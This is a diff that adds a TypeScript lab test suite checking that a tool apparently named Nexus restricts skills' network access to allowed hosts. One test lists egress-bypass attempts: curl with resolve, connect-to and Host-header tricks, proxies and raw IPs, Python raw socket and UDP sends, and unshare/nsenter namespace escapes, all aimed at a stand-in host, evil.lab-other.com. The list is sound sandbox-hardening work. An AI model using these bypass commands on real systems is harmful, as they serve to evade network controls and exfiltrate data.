@@ -1,0 +1,188 @@
+/** Runs where real host names lead to stand-in servers: see internet.sh. The outer test is internet.test.ts. */
+import assert from 'node:assert/strict'
+import { spawnSync } from 'node:child_process'
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { dirname, join } from 'node:path'
+import { test, type TestContext } from 'node:test'
+import { Place, type Ran, type StartOptions } from '../nexus.ts'
+import { inTerminal } from '../terminal.ts'
+import { type Fixture, FIXTURES, skillText } from './fixtures.ts'
+
+const LAB = process.env['NEXUS_LAB'] ?? ''
+/** All of them with NEXUS_LAB_ALL: a normal run takes one. */
+const CHOSEN = process.env['NEXUS_LAB_ALL'] ? FIXTURES : FIXTURES.filter(({ name }) => /^urllib-get$/.test(name))
+
+class LabPlace extends Place {
+  override options(more: StartOptions = {}): ReturnType<Place['options']> {
+    return super.options({ ...more, env: { SSL_CERT_FILE: join(LAB, 'cert.pem'), ...more.env } })
+  }
+  settings(text: string): void {
+    mkdirSync(this.home, { recursive: true })
+    writeFileSync(join(this.home, 'nexus.yaml'), text)
+  }
+}
+
+const requests = (): string => {
+  try {
+    return readFileSync(join(LAB, 'requests'), 'utf8')
+  } catch {
+    return ''
+  }
+}
+
+function place(t: TestContext, fixture?: Fixture, frontmatter = ''): LabPlace {
+  const made = new LabPlace(t)
+  rmSync(join(made.workspace, 'nexus.yaml'), { force: true })
+  if (fixture) {
+    const root = join(made.workspace, 'skills', fixture.name)
+    for (const [path, text] of Object.entries({ ...fixture.files, 'SKILL.md': skillText(fixture) })) {
+      mkdirSync(dirname(join(root, path)), { recursive: true })
+      const body = path === 'SKILL.md' && frontmatter !== '' ? text.replace('\n---\n', `\n${frontmatter}\n---\n`) : text
+      writeFileSync(join(root, path), body)
+    }
+  }
+  return made
+}
+
+const run = (at: LabPlace, name: string, command: string, ...more: string[]): Promise<Ran> =>
+  at.run(['skills', 'run', name, '--trust', ...more, '--', command])
+
+/** The line that a finding says to write into nexus.yaml. */
+const lineIn = (text: string): string | undefined => /write in nexus\.yaml: (skills: .*\} \} \})/i.exec(text)?.[1]
+
+function has(needs: string | undefined): boolean {
+  if (needs === undefined) return true
+  const [program = '', module] = needs.split(' ')
+  const args = module === undefined ? ['--version'] : ['-c', `import ${module}`]
+  return spawnSync(join('/usr/bin', program), args, { stdio: 'ignore' }).status === 0
+}
+
+for (const fixture of CHOSEN)
+  test(
+    `${fixture.name} works with the line that check proposes`,
+    { skip: !has(fixture.needs) && 'not installed' },
+    async (t) => {
+      const at = place(t, fixture)
+      const before = await run(at, fixture.name, fixture.command)
+      assert.match(before.stderr, /To allow it, add \S+ to skills\.entries\.|host|network|wrote nothing/i)
+      assert.doesNotMatch(requests(), fixture.asked)
+      const line = lineIn((await at.run(['skills', 'check', fixture.name, '--trust'])).stdout)
+      assert.ok(line, 'no line')
+      at.settings(`${line}\n`)
+      const after = await run(at, fixture.name, fixture.command)
+      assert.equal(after.code, 0, after.stderr)
+      assert.match(requests(), fixture.asked)
+    },
+  )
+
+test('a declared need holds the skill until its line is written; then another host is refused and named', async (t) => {
+  const fixture = FIXTURES[0]!
+  const at = place(
+    t,
+    fixture,
+    'metadata: { nexus: { requires: { network: [api.lab-weather.com], env: [K] }, primaryEnv: K } }',
+  )
+  at.settings(`skills: { entries: { ${fixture.name}: { apiKey: secret-value-77 } } }\n`)
+  const held = await run(at, fixture.name, fixture.command)
+  assert.match(held.stderr, /is held: network not allowed: api\.lab-weather\.com/)
+  const line = lineIn((await at.run(['skills', 'check', fixture.name, '--trust'])).stdout)
+  assert.equal(line, `skills: { entries: { ${fixture.name}: { network: [api.lab-weather.com] } } }`)
+  at.settings(line.replace('{ network', '{ apiKey: secret-value-77, network'))
+  const got = await run(
+    at,
+    fixture.name,
+    'curl -sS -H "Authorization: $K" https://api.lab-weather.com/keyed; curl -sS https://evil.lab-other.com/',
+    '--json',
+  )
+  const { data } = JSON.parse(got.stdout) as {
+    data: {
+      stdout: string
+      notes: string[]
+      hosts: { reached: { host: string; received_bytes: number }[]; refused: { host: string }[] }
+    }
+  }
+  assert.match(data.stdout, /"path":"\/keyed"/)
+  assert.match(requests(), /\/keyed secret-value-77/)
+  assert.ok(
+    data.notes.some((note) =>
+      /Nexus refused evil\.lab-other\.com port 443: .*skills\.entries\.curl-get\.network/.test(note),
+    ),
+    data.notes.join(),
+  )
+  assert.equal(data.hosts.reached[0]?.host, 'api.lab-weather.com')
+  assert.ok((data.hosts.reached[0]?.received_bytes ?? 0) > 500)
+  assert.equal(data.hosts.refused[0]?.host, 'evil.lab-other.com')
+  assert.doesNotMatch(requests(), /140\.82\.112\.78/)
+})
+
+test('a person answers "always" at the prompt, and it holds in the next session, where nobody is asked', async (t) => {
+  const fixture = FIXTURES[0]!
+  const at = place(t, fixture)
+  const args = ['skills', 'run', fixture.name, '--trust', '--', 'curl -sS https://api.lab-weather.com/asked']
+  const { screen, code } = await inTerminal(at, args, {
+    prompt: /reach api\.lab-weather\.com port 443\? \[y: once/,
+    keys: 'a\r',
+  })
+  assert.equal(code, 0, screen)
+  const later = await run(at, fixture.name, 'curl -sS https://api.lab-weather.com/later')
+  assert.equal(later.code, 0, later.stderr)
+  assert.match(requests(), /\/asked[\s\S]*\/later/)
+  assert.match(
+    (await at.run(['approvals', 'list'])).stdout,
+    /network\.connect.*exactly:\s+\| api\.lab-weather\.com:443/s,
+  )
+  // Another revision of the skill is another one.
+  writeFileSync(join(at.workspace, 'skills', fixture.name, 'more.txt'), 'changed')
+  assert.notEqual((await run(at, fixture.name, 'curl -sS https://api.lab-weather.com/other')).code, 0)
+})
+
+test('no way out leads to a host that is not allowed', async (t) => {
+  const fixture = FIXTURES[0]!
+  const at = place(t, fixture)
+  at.settings(
+    `execution: { network: { deniedDomains: [github.com] } }\nskills: { entries: { ${fixture.name}: { network: [api.lab-weather.com, inside.lab-weather.com, github.com] } } }\n`,
+  )
+  const evil = 'https://evil.lab-other.com/out'
+  const tries = [
+    `curl -sS -m 5 ${evil}`,
+    `curl -sS -m 5 --noproxy '*' ${evil}`,
+    `curl -sS -m 5 --noproxy '*' -k --resolve evil.lab-other.com:443:140.82.112.78 ${evil}`,
+    'curl -sS -m 5 --noproxy "*" http://140.82.112.78/out',
+    'curl -sS -m 5 http://140.82.112.78/out',
+    'curl -sS -m 5 http://[::ffff:140.82.112.78]/out',
+    'curl -sS -m 5 -k https://140.82.112.78/out',
+    'env -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY curl -sS -m 5 https://evil.lab-other.com/out',
+    `curl -sS -m 5 -k --connect-to evil.lab-other.com:443:api.lab-weather.com:443 ${evil}`,
+    'curl -sS -m 5 -k -H "Host: evil.lab-other.com" http://api.lab-weather.com/hosthdr',
+    'curl -sS -m 5 -x socks5h://127.0.0.1:19080 https://evil.lab-other.com/out',
+    'curl -sS -m 5 -x socks5://127.0.0.1:19080 --resolve evil.lab-other.com:443:140.82.112.78 -k https://evil.lab-other.com/out',
+    'curl -sS -m 5 https://inside.lab-weather.com/out; curl -sS -m 5 http://inside.lab-weather.com/out',
+    'curl -sS -m 5 -L https://api.lab-weather.com/to-private; curl -sS -m 5 -L https://api.lab-weather.com/to-evil',
+    'curl -sS -m 5 telnet://api.lab-weather.com:2222; curl -sS -m 5 -p -x http://127.0.0.1:19080 telnet://api.lab-weather.com:2222',
+    'curl -sS -m 5 https://github.com/out',
+    'curl -sS -m 5 http://10.77.0.2/out; curl -sS -m 5 http://localhost/out; curl -sS -m 5 http://127.0.0.1:80/out',
+    "python3 -c \"import socket; s=socket.create_connection(('140.82.112.78',80),3); s.send(b'GET /out HTTP/1.0\\r\\n\\r\\n')\"",
+    'python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect(\'/run/nexus/egress\')"',
+    "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('140.82.112.78', 53))\"",
+    'unshare -Urn true; nsenter -t 1 -n true; ls /tmp/nexus* /var/lib/nexus',
+  ]
+  const script = tries.map((line) => `{ ${line}; } 2>&1 | head -c 300`).join('\n')
+  const { stdout } = await run(at, fixture.name, script, '--timeout', '100')
+  const noted = requests()
+  assert.doesNotMatch(noted, /140\.82\.112\.78|10\.77\.0\.2|\/out|\/secret| raw/, stdout)
+  // The Host of a plain request is that of its address.
+  assert.match(noted, /- GET api\.lab-weather\.com \/hosthdr/)
+})
+
+test('--no-network closes what settings open, and --network opens one host for one run', async (t) => {
+  const fixture = FIXTURES[0]!
+  const at = place(t, fixture)
+  at.settings('execution: { network: { allowedDomains: [api.lab-weather.com] } }\n')
+  assert.notEqual((await run(at, fixture.name, 'curl -sS https://api.lab-weather.com/closed', '--no-network')).code, 0)
+  assert.equal(
+    (await run(at, fixture.name, 'curl -sS https://api.github.com/once', '--network', 'api.github.com')).code,
+    0,
+  )
+  assert.notEqual((await run(at, fixture.name, 'curl -sS https://api.github.com/again')).code, 0)
+  assert.doesNotMatch(requests(), /\/closed|\/again/)
+})
